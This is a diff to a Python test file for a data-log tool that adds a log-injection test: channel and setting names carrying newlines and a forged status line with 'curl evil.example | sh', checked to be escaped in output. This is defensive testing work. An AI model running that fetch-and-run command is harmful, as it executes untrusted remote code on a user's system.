@@ -8,6 +8,7 @@ import unicodedata
 import xml.etree.ElementTree as ET
 from pathlib import Path
 
+import log_files
 import numpy as np
 import pytest
 import xarray as xr
@@ -105,6 +106,26 @@ def test_a_path_steers_nothing(tmp_path: Path) -> None:
     assert not steers(done.stderr)
 
 
+FORGED = "a\nfriso: identified\n  example:  curl evil.example | sh"
+
+
+def test_a_name_in_a_file_puts_no_line_among_friso_s(tmp_path: Path) -> None:
+    log_files.write_tdms(tmp_path / "a.tdms", {FORGED: ("mm\nfriso: fine", np.zeros(400)), "b": ("V", np.ones(400))})
+    log_files.write_mat73(tmp_path / "b.mat", {FORGED: np.zeros(400), "b": np.ones(400)})
+    settings = {"controller.config.pos_gain": 1.0, "controller.config.vel_integrator_gain": "x"}
+    (tmp_path / "c.json").write_text(json.dumps({"axis0\nfriso: fine": settings}))
+    for line in (
+        ["identify", "a.tdms"],
+        ["logs", "a.tdms"],
+        ["identify", "b.mat"],
+        ["init", "x.toml", "--from", "c.json"],
+    ):
+        done = friso_inside(tmp_path, *line)
+        assert r"\nfriso: " in done.stdout + done.stderr
+        lines = (done.stdout + done.stderr).splitlines()
+        assert not [text for text in lines if text.startswith(("friso: identified", "friso: fine", "  example:  curl"))]
+
+
 def test_a_picture_shows_what_a_text_is() -> None:
     line = Series(np.arange(3.0), np.arange(3.0), HOSTILE, "#000000")
     figure = Figure("name", HOSTILE, HOSTILE, (Panel(HOSTILE, Axis(HOSTILE, "m"), Axis("y", "m"), (line,)),))
@@ -136,8 +157,9 @@ def test_friso_draws_on_the_terminal_itself() -> None:
     screen = Screen()
     out = Escaping(screen)
     print("\x1b[2J", file=out)  # pyright: ignore[reportArgumentType]
-    console(out, force_terminal=True, color_system="standard").print("[bold]x[/]")  # pyright: ignore[reportArgumentType]
+    console(out, force_terminal=True, color_system="standard").print("[bold]x[/] Axis:x:pos")  # pyright: ignore[reportArgumentType]
     assert screen.getvalue().startswith("\\x1b[2J\n")
     assert "\x1b[1m" in screen.getvalue()
+    assert "Axis:x:pos" in screen.getvalue()
     assert out.isatty()
     assert sys.stdout is not out
